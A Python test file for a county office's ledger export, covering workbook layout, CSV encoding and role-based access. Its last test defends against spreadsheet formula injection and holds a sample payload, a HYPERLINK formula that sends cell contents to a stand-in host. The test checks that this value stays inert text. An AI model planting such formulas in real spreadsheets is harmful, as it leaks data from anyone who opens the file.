"""台账导出: workbooks as a county office keeps them, for those who may have them."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from projections.ledger import COLUMNS
from tests.conftest import assign_to_school_a, open_at_school_a
from tests.web_client import Browser


def closed_ticket(app) -> str:
    number = open_at_school_a(app)
    assign_to_school_a(app, number)
    app.rectify(number, "school_a", measures="已分班")
    app.reinspect(number, "insp", passed=True)
    app.close_ticket(number, "office")
    return number


def test_the_county_workbook(web_app, clock):
    web, app = web_app
    closed = closed_ticket(app)
    late = open_at_school_a(app, unit_id="TB-J01", title="乙镇中学问题")
    app.assign(late, "office", lead_unit_id="TB-J01", deadline=date(2026, 11, 2))
    clock.advance(days=1)
    response = Browser(web, "office").get("/ledger/export?of=county&format=xlsx")
    assert response.status_code == 200
    assert "attachment; filename*=UTF-8''" in response.headers["content-disposition"]
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["全县台账", "甲镇", "乙镇"]
    sheet = book["全县台账"]
    assert sheet["A1"].value == "泗水县问题销号台账（截至2026年11月3日）（全县台账）"
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == "A2:T4"
    assert [c.value for c in sheet[2]] == COLUMNS
    rows = {r[1]: dict(zip(COLUMNS, r, strict=True))
            for r in sheet.iter_rows(min_row=3, values_only=True)}
    assert rows[closed]["整改状态"] == "已销号" and rows[closed]["销号时间"].date() == date(2026, 11, 2)
    assert (rows[closed]["复查人"], rows[closed]["复查意见"]) == ("insp", "通过")
    assert rows[closed]["复查时间"].date() == date(2026, 11, 2)
    assert rows[late]["红黄绿灯"] == "红灯" and rows[late]["逾期天数"] == 1
    assert rows[late]["问题描述"] == "乙镇中学问题。周检查发现"
    light = next(c for c in sheet["T"] if c.value == "红灯")
    assert light.fill.fgColor.rgb == "FFC62828"
    assert sheet.column_dimensions["E"].width == 44
    # a clerk can file it: A4 landscape, one page wide, the header on every page
    assert sheet.page_setup.orientation == "landscape" and sheet.page_setup.paperSize == 9
    assert sheet.sheet_properties.pageSetUpPr.fitToPage and sheet.page_setup.fitToWidth == 1
    assert sheet.print_title_rows == "$1:$2" and "&P" in sheet.oddFooter.center.text
    assert [r[0] for r in book["乙镇"].iter_rows(min_row=3, values_only=True)] == [1]


def test_a_town_book_has_a_sheet_per_school_and_csv_has_a_bom(web_app):
    web, app = web_app
    closed_ticket(app)
    office = Browser(web, "office")
    book = load_workbook(io.BytesIO(office.get("/ledger/export?of=town&code=TA").content))
    assert book.sheetnames == ["汇总", "甲镇中心小学"]
    assert list(book["汇总"].iter_rows(min_row=3, values_only=True)) == [
        (1, "甲镇中心小学", 1, 1, 0, 0, 0, "100%")]
    body = office.get("/ledger/export?of=school&code=TA-P01&format=csv").content
    assert body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    assert len(rows) == 1 and rows[0]["学校/单位"] == "甲镇中心小学"


def test_ledgers_only_for_those_who_answer_for_them(web_app):
    web, app = web_app
    closed_ticket(app)
    school_a, leader_b = Browser(web, "school_a"), Browser(web, "leader_b")
    assert school_a.get("/ledger/export?of=school&code=TA-P01").status_code == 200
    assert school_a.get("/ledger/export?of=school&code=TB-J01").status_code == 403
    assert school_a.get("/ledger/export?of=county").status_code == 403
    assert leader_b.get("/ledger/export?of=town&code=TA").status_code == 403
    assert leader_b.get("/ledger/export?of=town&code=TB").status_code == 200
    assert Browser(web, "office").get("/ledger/export?of=town&code=NOPE").status_code == 404
    assert Browser(web, "office").get("/ledger/export?of=planet").status_code == 400


def test_a_school_ledger_holds_only_what_the_school_may_see(web_app):
    # #4 review: a unit's 一校一案 listed tickets at the school that it did not answer for.
    web, app = web_app
    unassigned = open_at_school_a(app)
    led_by_bureau = open_at_school_a(app)
    app.assign(led_by_bureau, "office", lead_unit_id="EDU", deadline=date(2026, 11, 30))
    mine = open_at_school_a(app)
    assign_to_school_a(app, mine)
    body = Browser(web, "school_a").get("/ledger/export?of=school&code=TA-P01&format=csv").content
    numbers = [r["问题编号"] for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig")))]
    assert numbers == [mine]
    office = Browser(web, "office").get("/ledger/export?of=school&code=TA-P01&format=csv").content
    assert len(list(csv.DictReader(io.StringIO(office.decode("utf-8-sig"))))) == 3
    assert unassigned


def test_a_finding_typed_as_a_formula_stays_text_in_excel_and_csv(web_app):
    # Spreadsheet formula injection: what an inspector typed must never run in a ledger.
    web, app = web_app
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
    open_at_school_a(app, title=evil)
    office = Browser(web, "office")
    book = load_workbook(io.BytesIO(office.get("/ledger/export?of=county&format=xlsx").content))
    cell = book["全县台账"]["E3"]
    assert cell.data_type == "s" and cell.value.startswith(evil)
    body = office.get("/ledger/export?of=county&format=csv").content.decode("utf-8-sig")
    [row] = list(csv.DictReader(io.StringIO(body)))
    assert row["问题描述"].startswith("'=HYPERLINK")
